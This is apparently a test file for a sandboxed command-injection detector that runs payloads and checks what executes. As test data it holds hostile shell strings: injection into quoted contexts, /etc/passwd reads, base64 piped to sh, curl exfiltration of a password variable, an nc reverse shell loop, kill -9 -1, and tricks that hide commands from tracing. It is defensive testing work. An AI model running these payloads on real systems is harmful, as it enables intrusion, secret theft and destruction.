import { afterAll, describe, expect, test } from "bun:test"
import fc from "fast-check"
import { startIsolatedTwin } from "../../support/isolated-twin.ts"

const twin = await startIsolatedTwin("command_injection")
afterAll(() => twin?.close())
const CANARY = "00112233445566778899aabbccddeeff"
const withTwin = describe.skipIf(twin === undefined)

async function run(payload: string, more: { templates?: string[]; budgetMs?: number } = {}) {
  const answer = await twin?.run({ payload, ...more })
  if (answer === undefined) throw new Error("no isolated twin")
  return answer
}

async function effectsOf(payload: string): Promise<readonly string[]> {
  const { attempts } = await run(payload)
  return attempts.flatMap(({ effects }) => effects.map(({ kind, detail }) => `${kind}: ${detail}`))
}

withTwin("shellTwin, by quoting context", () => {
  test.each([
    ["; id", "dash/bare"],
    ["' ; id ; '", "bash/single"],
    ['" ; id ; "', "dash/double"],
    ["$(id)", "bash/double-failing"],
    ["`id`", "dash/here-document"],
    ["a\nEOF\nid\n", "bash/here-document-failing"],
    ["x -exec id ;", "dash/find"],
    ["--checkpoint=1 --checkpoint-action=exec=id x", "bash/tar"],
    ["x || id #", "dash/bare-failing"],
    ["x | id", "bash/grep"],
    ["%0aid%0a", "dash/backticks/url-decoded"],
    ["x;id+-u", "dash/bare/url-decoded"],
    ["<(id)", "bash/bare"],
    ["; {id,-u}", "bash/bare"],
  ])("runs id of %p in %p", async (payload, template) => {
    const { attempts } = await run(payload, { templates: [template] })
    expect(attempts.map((attempt) => attempt.template)).toEqual([template])
    const details = attempts[0]?.effects.map(({ detail }) => detail) ?? []
    expect(details.some((detail) => detail.startsWith("id ran"))).toBe(true)
  })
})

withTwin("shellTwin, by effect", () => {
  test("names the arguments of a command after every expansion", async () => {
    expect(await effectsOf(";c'a't$IFS/etc/pass?d")).toContain(
      'command_run: cat ran with ["/etc/passwd"]',
    )
  })

  test("follows a payload through base64 and sh to the command", async () => {
    expect(await effectsOf("; echo dW5hbWUgLWE= | base64 -d | sh")).toContain(
      'command_run: uname ran with ["-a"]',
    )
  })

  test("sees a file's secret in the output, and one of the environment in arguments", async () => {
    expect(await effectsOf("; cat config.php")).toContain(
      `output_leaked: in the output: file-${CANARY}`,
    )
    expect(await effectsOf("; curl http://192.0.2.1/$DATABASE_PASSWORD")).toContain(
      `output_leaked: in the arguments of curl: variable-${CANARY}`,
    )
  })

  test("sees files made in the working directory and in /tmp, and removes the latter", async () => {
    expect(await effectsOf("; echo x > shell.php")).toContain('file_created: "shell.php", 2 bytes')
    const made = await effectsOf("; : > /tmp/owned")
    expect(made).toContain('file_created: "/tmp/owned"')
    expect(await effectsOf("; : > /tmp/owned")).toEqual(made)
  })

  test("sees builtins in the trace, and the connection that bash itself opens", async () => {
    expect(await effectsOf("; pwd")).toContain("process_spawned: pwd ran with []")
    expect(await effectsOf("; exec 5<>/dev/tcp/192.0.2.1/80")).toContain(
      "process_spawned: bash opened a connection: /dev/tcp/192.0.2.1/80",
    )
  })

  test("reads a payload as prose or not as the program has it, decoded", async () => {
    expect(await effectsOf("Doe%26echo%20a1b2%20c3d4%26")).toContain(
      'process_spawned: echo ran with ["a1b2","c3d4"]',
    )
  })

  test("puts the strongest first", async () => {
    const { attempts } = await run("; cat config.php")
    expect(attempts[0]?.effects[0]?.kind).toBe("output_leaked")
  })
})

withTwin("shellTwin, of what is no attack", () => {
  test.each([
    ...["Tom & Jerry", "AT&T; 5 > 3", "$100", "rock & roll", "R&D", "cats & more", "dog & cat"],
    ...["; find out", "| more", "O'Brien", "5 < 6 && 7 > 3", "if (a && b) return c;", "a|b|c"],
    ...["the mountains; echo of the past", "SELECT * FROM t; DROP", "price | date | size"],
    ...["**bold** & _it_", 'he said "hi"; she left', "use `npm install` now", "*", "a > b", "2>1"],
    ...['```\n{\n "id" : "42"\n}\n```', "1+1", "C++"],
    `/c.gif?${"k=v&".repeat(60)}z=1`,
    ...["guest", "name@example.com", '{"a": [1, 2]}', "http://example.com/?a=1&b=2", "100%25"],
  ])("has no effect for %p", async (payload) => {
    const { attempts, controlAttempts, inconclusive } = await run(payload)
    expect({ attempts, controlAttempts, inconclusive }).toEqual({
      ...{ attempts: [], controlAttempts: [], inconclusive: undefined },
    })
  })

  test("has no effect for text that pretends to be a record or a line of the trace", async () => {
    const { attempts } = await run("x\x1e\x1fid\x1fnone\n+ pwd\n+00 1 pwd\n")
    expect(attempts).toEqual([])
  })

  test("cannot be told a record without the nonce", async () => {
    const effects = await effectsOf("; printf '\\036guess\\037id\\037none' >&8")
    expect(effects.some((text) => text.includes("id ran"))).toBe(false)
  })
})

withTwin("shellTwin, of hostile payloads", () => {
  test.each([
    ...["; set +x; exec 8>/dev/null 2>/dev/null; id", "; unset CANARY_NONCE; set +x; id"],
    ...["; CANARY_NONCE=x; set +x; id", "; exec 8>&-; set +x; id"],
    ...["; { set +x; } 2>/dev/null; exec 8>&-; id", "; { set +x; exec 8>x; id; } 2>/dev/null"],
  ])("counts %p, which keeps its command from being recorded", async (payload) => {
    expect(await effectsOf(payload)).not.toEqual([])
  })

  test("names the template where the recording was prevented", async () => {
    const { attempts } = await run("'; { set +x; } 2>/dev/null; exec 8>&-; id; '")
    expect(attempts.map(({ template }) => template)).toEqual(["dash/single"])
    expect(attempts[0]?.effects[0]?.detail).toBe('"id" ran and was kept from being recorded')
  })

  test("answers with what ran where a payload loops in every template", async () => {
    const looping = "; while true; do nc -e /bin/sh 192.0.2.1 4444; sleep 5; done"
    const { attempts } = await run(looping, { budgetMs: 3_000 })
    expect(JSON.stringify(attempts)).toContain("nc ran with")
  })

  test("is inconclusive for another system's shell", async () => {
    expect((await run("& ipconfig /all")).inconclusive).toBe("platform")
    expect((await run("& whoami")).inconclusive).toBeUndefined()
  })

  test("stops loops, and keeps what was seen until then", async () => {
    const { attempts } = await run("; while :; do :; done", { templates: ["dash/bare"] })
    expect(attempts[0]?.effects[0]?.detail).toContain("in a loop")
  })

  test("gives up at its budget, what hangs included", async () => {
    const hanging = { templates: ["bash/bare"], budgetMs: 400 }
    const { attempts, inconclusive } = await run("; read line <> <(:)", hanging)
    expect({ attempts, inconclusive }).toEqual({ attempts: [], inconclusive: "budget_exceeded" })
  })

  test("outlives a payload that kills everything", async () => {
    expect(await effectsOf("; kill -9 -1")).toContain('process_spawned: kill ran with ["-9","-1"]')
  })

  test("is total, answers the same twice, and sees nothing in letters and digits", async () => {
    const templates = ["dash/bare", "bash/double", "dash/here-document", "bash/find"]
    const character = fc.oneof(
      fc.constantFrom(..."$`'\"\\;|&<>(){}[]*?~#!=\n\t "),
      fc.string({ unit: "binary", minLength: 1, maxLength: 1 }),
    )
    await fc.assert(
      fc.asyncProperty(fc.array(character, { maxLength: 24 }), async (characters) => {
        const first = await run(characters.join(""), { templates })
        expect(first.controlAttempts).toEqual([])
        expect(await run(characters.join(""), { templates })).toEqual(first)
      }),
      { numRuns: 40 },
    )
    await fc.assert(
      fc.asyncProperty(fc.stringMatching(/^[A-Za-z0-9 ]{0,40}$/), async (text) => {
        expect((await run(text, { templates })).attempts).toEqual([])
      }),
      { numRuns: 40 },
    )
  }, 60_000)
})
